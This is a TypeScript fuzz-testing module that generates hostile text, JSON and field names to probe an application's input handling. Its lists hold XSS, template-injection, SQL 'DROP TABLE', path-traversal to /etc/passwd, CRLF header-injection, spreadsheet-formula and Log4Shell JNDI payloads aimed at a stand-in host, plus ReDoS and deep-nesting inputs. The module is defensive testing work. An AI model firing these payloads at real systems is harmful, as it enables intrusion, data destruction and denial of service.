import * as fc from 'fast-check';
import type { Chance } from './chance.ts';

/** Marks every string that would be harmful if interpreted; a response must never contain this marker unescaped. */
export const markup = '<fz-';

const sizes = [
  1, 2, 3, 4, 9, 10, 29, 30, 31, 79, 80, 81, 253, 254, 255, 499, 500, 501, 999, 1000, 1001, 5000,
  40_000,
];
function long(chance: Chance, unit: string): string {
  const size = chance.pick(sizes);
  return unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
}

/** Strings that people, browsers, spreadsheets, terminals or mail programs may interpret in harmful ways. */
const misleading = [
  '\u202Emoc.live\u202C',
  '\u2066omgekeerd\u2069',
  '\u200B\u200B\u200B',
  '\uFEFFverborgen',
  'a\u0300\u0301\u0302'.repeat(40),
  '\u0645\u0631\u062D\u0628\u0627',
  '👩‍👩‍👧‍👦'.repeat(8),
  'Рауpal',
  '\uD800',
  'begin\uDC00eind',
  'nul\u0000teken',
  '\u0007\u001B[31mrood',
  'regel\r\nBcc: ander@fuzz.example',
  'regel\nTo: ander@fuzz.example',
  'a\u2028b\u2029c',
  '\u0085',
  '\u00A0',
  '\u3164',
  `${markup}script>alert(1)</script>`,
  `"><img src=x onerror=${markup}x>`,
  `' ${markup}svg/onload=1>`,
  '</textarea>',
  '{{constructor.constructor("return 1")()}}',
  '${7*7}',
  '<%= 1 %>',
  '{{{name}}}',
  '${jndi:ldap://fuzz.example/a}',
  '=HYPERLINK("https://fuzz.example")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '%0d%0aSet-Cookie:a=b',
  '../../../../etc/passwd',
  '..\\..\\secrets.json',
  'file:///etc/passwd',
  "'; DROP TABLE groups; --",
  'GROUP#01KAMX',
  'STATE',
  'NaN',
  'Infinity',
  '-0',
  '1e999',
  '0x10',
  'null',
  'undefined',
  'true',
  '[object Object]',
  '__proto__',
  'constructor',
  'ﬀ',
  'İ',
  'ß',
  '٠٦١٢٣٤٥٦٧٨',
];

const units = [
  'a',
  'a.',
  'a@',
  '@',
  '.',
  '-',
  '+',
  ' ',
  '\t',
  '0',
  '06 ',
  '(',
  'a-',
  '1,',
  '1.',
  'x\u0301',
  '\u{1F600}',
];

/** Input that makes a careless regular expression take quadratic or exponential time. */
function slow(chance: Chance): string {
  const text = long(chance, chance.pick(units));
  return chance.pick([
    text,
    `${text}!`,
    `a@${text}`,
    `${text}@b.example`,
    `${text}\u0000`,
    `LS-${text}`,
    `+31${text}x`,
  ]);
}

/**
 * A string as long as a field allows, invalid only at the very end, which makes a careless regular
 * expression backtrack.
 */
export function slowUpTo(chance: Chance, limit: number): string {
  const [unit, front] = [
    chance.pick(['0', '06 ', 'a', 'a ', 'a.', 'a-', ' ', '@', 'é']),
    chance.pick(['', '', 'a@', '+31']),
  ];
  return (
    `${front}${unit.repeat(limit)}`.slice(0, limit - 1) +
    chance.pick(['!', '\u0000', '@', 'x', '.'])
  );
}

const mails = [
  'a@b',
  'a@@b.example',
  '"a b"@fuzz.example',
  'a@[127.0.0.1]',
  'a@fuzz.example,b@fuzz.example',
  'a@fuzz.example;b@fuzz.example',
  'Naam <a@fuzz.example>',
  'a@fuzz.example\u0000',
  'a@fuzz.example>',
  'ä@fuzz.example',
  'a@füzz.example',
  "o'brien+x@fuzz.example",
  '.a@fuzz.example',
  'a..b@fuzz.example',
  'a@-fuzz.example',
  'a@fuzz..example',
  'a%b@fuzz.example',
  '=1+1@fuzz.example',
  '-a@fuzz.example',
  'A@FUZZ.EXAMPLE',
  'a@xn--fzz-hoa.example',
];
const phones = [
  '112',
  '0900-8844',
  '+31 6 12345678;ext=5',
  'tel:+31612345678',
  '06 12345678 #1',
  '+1 202 555 0123',
  '0031612345678',
  '++31612345678',
  '06-1234567a',
  '0'.repeat(31),
  '＋31612345678',
];

/** Arbitrary strings and JSON values from fast-check. */
const pools = {
  texts: fc.sample(fc.string({ unit: 'binary', maxLength: 120 }), { seed: 1, numRuns: 2000 }),
  values: fc.sample(fc.jsonValue({ maxDepth: 4 }), { seed: 2, numRuns: 1000 }),
};

export function hostileText(chance: Chance): string {
  return chance.oneOf(
    [4, () => chance.pick(misleading)],
    [2, () => slow(chance)],
    [1, () => chance.pick(mails)],
    [1, () => chance.pick(phones)],
    [2, () => long(chance, 'a')],
    [2, () => chance.pick(pools.texts)],
  );
}

/** A placeholder for JSON that `JSON.stringify` cannot write; `asJson` replaces it. */
interface Raw {
  readonly '@@raw': string;
}
const rawNumbers = [
  'NaN',
  'Infinity',
  '-Infinity',
  '1e999',
  '-1e999',
  '1e-999',
  '-0',
  '0x10',
  '01',
  '+1',
  '.5',
  '1.',
  '1_000',
  `1${'0'.repeat(400)}`,
  `0.${'1'.repeat(4000)}`,
  '9007199254740993',
  'undefined',
  "'tekst'",
  '"\\ud800"',
  '"\\u0000"',
  '"\\x41"',
  '"\t"',
  '/* */ 1',
  'new Date()',
];
const plainValues: readonly unknown[] = [
  null,
  true,
  false,
  0,
  1,
  -1,
  1.5,
  256,
  257,
  1e308,
  -1e308,
  2 ** 53,
  '',
  ' ',
  '42',
  [],
  {},
  [[]],
  [null],
  { length: 3 },
  { toString: 'x' },
  { valueOf: 1 },
];

function deep(chance: Chance): Raw {
  const levels = chance.pick([50, 1000, 10_000, 20_000]);
  return {
    '@@raw': chance.pick([
      `${'['.repeat(levels)}${']'.repeat(levels)}`,
      '['.repeat(levels),
      `${'{"a":'.repeat(levels / 4)}1${'}'.repeat(levels / 4)}`,
    ]),
  };
}

export function hostileJson(chance: Chance): unknown {
  return chance.oneOf<unknown>(
    [3, () => chance.pick(plainValues)],
    [2, (): Raw => ({ '@@raw': chance.pick(rawNumbers) })],
    [1, () => deep(chance)],
    [2, () => hostileText(chance)],
    [1, () => chance.pick(pools.values)],
    [1, () => listOf(chance.pick([10, 3000, 30_000]), chance.pick<unknown>([0, null, '', []]))],
  );
}

const listOf = (length: number, item: unknown): unknown[] => Array.from({ length }, () => item);

const oddKeys = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'status',
  'id',
  'version',
  'PK',
  'role',
  '',
  ' ',
  'name ',
  'Name',
  'name\u0000',
  `${markup}b>`,
  '\uD800',
  'a'.repeat(5000),
];

/**
 * Unexpected field names: an odd name (for example, one with a special meaning in JavaScript), a
 * hostile string, or up to 8,000 names.
 */
export function hostileKeys(chance: Chance): readonly string[] {
  return chance.oneOf(
    [2, () => [chance.pick(oddKeys)]],
    [
      1,
      () =>
        Array.from({ length: chance.pick([2, 100, 3000, 8000]) }, (_, index) => index.toString(36)),
    ],
    [1, () => [hostileText(chance)]],
  );
}

/** Serialises to JSON, inserting raw values verbatim and writing names such as `__proto__` as ordinary fields. */
export function asJson(value: unknown): string {
  const raws: string[] = [];
  const text =
    JSON.stringify(value, (_key, part: unknown) =>
      isRaw(part) ? `@@${raws.push(part['@@raw']) - 1}@@` : part,
    ) ?? 'null';
  return text.replaceAll(/"@@(\d+)@@"/g, (_found, index: string) => raws[Number(index)] ?? '');
}

function isRaw(value: unknown): value is Raw {
  return typeof value === 'object' && value !== null && '@@raw' in value;
}
